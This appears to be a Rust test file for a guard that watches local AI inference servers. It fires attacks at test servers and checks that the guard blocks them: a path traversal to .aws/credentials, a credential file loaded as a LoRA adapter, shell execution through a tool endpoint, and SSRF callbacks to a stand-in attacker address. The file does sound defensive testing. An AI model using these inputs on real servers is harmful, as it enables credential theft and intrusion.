//! Real inference servers of different make under guard: each is learned while it starts and
//! serves, goes on serving under enforcement, and is attacked by its own means. Built by `cargo
//! xtask servers`; run by `cargo xtask test --servers`.

use std::path::Path;
use std::time::Duration;
use std::{env, fs};

use anyhow::{Context, Result, ensure};
use scene::daemon::{self, ALERT, Daemon, Options};
use scene::looks::lasting;
use scene::servers::{Bench, Kind};
use scene::wait;
use serde_json::{Value, json};

/// Something that a stranger can have a server do.
struct Attack {
    name: &'static str,
    path: String,
    body: Option<Value>,
    /// Whether it succeeded, from what the server said and from the victim.
    success: fn(&Bench, &str) -> Result<bool>,
}

fn told_the_secret(bench: &Bench, said: &str) -> Result<bool> {
    Ok(said.contains(&bench.script.canary))
}

fn reached_the_attacker(bench: &Bench, _: &str) -> Result<bool> {
    Ok(bench
        .world
        .attacker
        .evidence()?
        .contains(&bench.script.loot))
}

/// A page of the attacker, by address.
fn attacker(bench: &Bench) -> String {
    format!("http://10.77.0.66:80/{}", bench.script.loot)
}

fn attacks(kind: Kind, bench: &Bench) -> Vec<Attack> {
    let script = &bench.script;
    let tool = |tool: &str, params: Value| Some(json!({"tool": tool, "params": params}));
    match kind {
        Kind::Node => Vec::new(),
        Kind::Llama => vec![
            Attack {
                name: "the server's own tool reads a credential file",
                path: "/tools".into(),
                body: tool("read_file", json!({"path": script.credentials})),
                success: told_the_secret,
            },
            Attack {
                name: "the server's own tool starts a shell",
                path: "/tools".into(),
                body: tool(
                    "exec_shell_command",
                    json!({"command": format!("echo ran > {}", script.marker.display())}),
                ),
                success: |bench, _| Ok(bench.script.marker.exists()),
            },
            Attack {
                name: "the server's proxy asks the attacker",
                path: format!("/cors-proxy?url={}", attacker(bench)),
                body: None,
                success: reached_the_attacker,
            },
            Attack {
                name: "the server's MCP child asks the attacker",
                path: "/tools".into(),
                body: tool("scene_fetch", json!({"url": attacker(bench)})),
                success: reached_the_attacker,
            },
            Attack {
                name: "the server writes what it was told to a file",
                path: "/slots/0?action=save".into(),
                body: Some(json!({"filename": "stolen.bin"})),
                success: |bench, _| {
                    let saved = fs::metadata(bench.path("slots/stolen.bin"));
                    Ok(saved.is_ok_and(|file| file.len() > 0))
                },
            },
        ],
        Kind::Candle => vec![
            Attack {
                name: "an adapter that is a credential file",
                path: "/v1/load_lora_adapter".into(),
                body: Some(json!({"lora_path": script.credentials})),
                success: |_, said| Ok(said.contains("aws_access_key_id")),
            },
            Attack {
                name: "an image at the attacker's",
                path: "/v1/completions".into(),
                body: Some(json!({"prompt": "x", "image_url": attacker(bench)})),
                success: reached_the_attacker,
            },
        ],
        Kind::Onnx => vec![
            Attack {
                name: "a label outside the folder",
                path: "/labels/../home/slm/.aws/credentials".into(),
                body: None,
                success: told_the_secret,
            },
            Attack {
                name: "a callback to the attacker",
                path: "/classify".into(),
                body: Some(json!({"values": [1, 0, 0, 0], "callback": attacker(bench)})),
                success: reached_the_attacker,
            },
        ],
    }
}

fn without_a_guard(kind: Kind) -> Result<()> {
    for number in 0.. {
        // A world each: what reached a victim is this attack's.
        let bench = Bench::unguarded(kind)?;
        bench.serve()?;
        let Some(attack) = attacks(kind, &bench).into_iter().nth(number) else {
            break;
        };
        let said = bench.attack(&attack.path, attack.body.as_ref())?;
        ensure!((attack.success)(&bench, &said)?, "{}: {said}", attack.name);
    }
    Ok(())
}

fn guarded(kind: Kind) -> Result<()> {
    let bench = Bench::guarded(kind, "[workload.undeniable]\nserver = \"kill\"")?;
    bench.learn_and_enforce()?;
    println!("{} learned: {:?}", kind.name(), bench.learned()?);
    bench.goes_on()?;
    for attack in attacks(kind, &bench) {
        let before = bench.daemon()?.alerts()?.len();
        let said = bench.attack(&attack.path, attack.body.as_ref())?;
        ensure!(!(attack.success)(&bench, &said)?, "{}: {said}", attack.name);
        wait::until(&format!("an alert about {}", attack.name), ALERT, || {
            let stopped =
                |alert: &Value| alert["verdict"] == "blocked" || alert["verdict"] == "killed";
            Ok(bench
                .daemon()?
                .alerts()?
                .into_iter()
                .skip(before)
                .find(stopped))
        })?;
    }
    bench.serve()
}

#[test]
fn llama_server_without_a_guard_does_all_that_it_is_told() -> Result<()> {
    without_a_guard(Kind::Llama)
}

#[test]
fn llama_server_serves_and_is_held_to_it() -> Result<()> {
    guarded(Kind::Llama)
}

#[test]
fn candle_without_a_guard_does_all_that_it_is_told() -> Result<()> {
    without_a_guard(Kind::Candle)
}

#[test]
fn candle_serves_and_is_held_to_it() -> Result<()> {
    guarded(Kind::Candle)
}

#[test]
fn onnx_runtime_without_a_guard_does_all_that_it_is_told() -> Result<()> {
    without_a_guard(Kind::Onnx)
}

#[test]
fn onnx_runtime_serves_and_is_held_to_it() -> Result<()> {
    guarded(Kind::Onnx)
}

/// What detectors are tested against is what these servers look like today.
/// `SLMGUARD_BLESS=1` writes it anew.
#[test]
fn each_server_looks_as_it_was_recorded() -> Result<()> {
    for kind in Kind::ALL {
        let bench = Bench::unguarded(kind)?;
        bench.serve()?;
        let now = bench.looks()?;
        let file = Path::new("../monitor/core/src/detect/fixtures")
            .join(format!("recorded-{}.toml", kind.name()));
        if env::var_os("SLMGUARD_BLESS").is_some() {
            fs::write(&file, format!("{RECORDED}{now}"))?;
        }
        let recorded =
            fs::read_to_string(&file).with_context(|| format!("read {}", file.display()))?;
        assert_eq!(lasting(&now), lasting(&recorded), "{}", kind.name());
    }
    Ok(())
}

/// The head of a recording.
const RECORDED: &str = "# Recorded from the running server by tests/tests/servers.rs on Debian 12, \
    x86-64.\n# Folders of that machine are written as /srv/inference and /opt/server.\n\n";

/// What a guard that knows of nothing says about the process of `bench`.
fn found(guard: &Daemon, bench: &Bench) -> Result<Value> {
    let (pid, name) = (bench.server.pid()?, bench.kind.name());
    let has = |workload: &Value| {
        let processes = workload["processes"].as_array();
        processes.is_some_and(|all| all.iter().any(|process| process["pid"] == pid))
    };
    // A member is listed a moment before what was found out about it.
    let told = |workload: &Value| has(workload) && !workload["detection"].is_null();
    let workload = wait::until(&format!("{name} is found"), FOUND, || {
        Ok(guard.json(&["workloads"])?.into_iter().find(told))
    })?;
    let given = workload["name"].as_str().context("a workload has a name")?;
    let explained = guard.json(&["workloads", given, "--explain"])?;
    explained.into_iter().next().context("an explanation")
}

#[test]
fn with_an_empty_configuration_each_is_found_with_evidence() -> Result<()> {
    let folder = tempfile::tempdir()?;
    let mut benches = Vec::new();
    for kind in Kind::ALL {
        benches.push(Bench::unguarded(kind)?);
    }
    let mut options = Options::new(
        daemon::program()?,
        &folder.path().join("guard"),
        String::new(),
    );
    options.detect = true;
    let guard = Daemon::start(options)?;
    // First as they run already, then as they start under the guard's eyes.
    for round in 0..2 {
        for bench in &benches {
            bench.serve()?;
            let (workload, name) = (found(&guard, bench)?, bench.kind.name());
            let seen = &workload["detection"];
            println!("{name}: {seen}");
            assert_eq!(seen["detector"], bench.kind.detector(), "{name}: {seen}");
            assert_eq!(workload["origin"], "detected", "{name}");
            assert_eq!(
                seen["ports"][0],
                bench.kind.address().port(),
                "{name}: {seen}"
            );
            let signs: Vec<&Value> = seen["evidence"].as_array().into_iter().flatten().collect();
            for source in evidence(bench.kind) {
                let told = signs.iter().any(|sign| sign["source"] == *source);
                assert!(told, "{name}, {source}: {seen}");
            }
            if round == 0 {
                bench.server.restart()?;
                bench.ready()?;
            }
        }
    }
    Ok(())
}

/// What at least speaks for each.
fn evidence(kind: Kind) -> &'static [&'static str] {
    match kind {
        Kind::Node => &["library", "model", "listener"],
        Kind::Llama => &["program", "model", "listener"],
        Kind::Candle => &["model", "listener"],
        Kind::Onnx => &["library", "model", "listener"],
    }
}

/// How long the search may take.
const FOUND: Duration = Duration::from_secs(60);

#[test]
fn the_demo_s_server_serves_under_enforcement() -> Result<()> {
    guarded(Kind::Node)
}
